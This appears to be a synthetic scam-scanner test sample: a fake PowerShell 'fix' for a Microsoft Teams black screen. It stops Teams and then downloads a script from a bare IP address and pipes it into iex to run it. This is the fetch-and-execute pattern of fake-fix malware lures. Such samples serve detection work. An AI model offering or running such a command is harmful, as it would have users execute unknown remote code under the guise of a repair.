# Microsoft Teams black-screen fix (scamscan synthetic sample - harmless text, not malware)
# Run in PowerShell to repair the Teams cache.
Stop-Process -Name ms-teams -ErrorAction SilentlyContinue
iwr -Uri http://203.0.113.80/teams/fix.ps1 -UseBasicParsing | iex
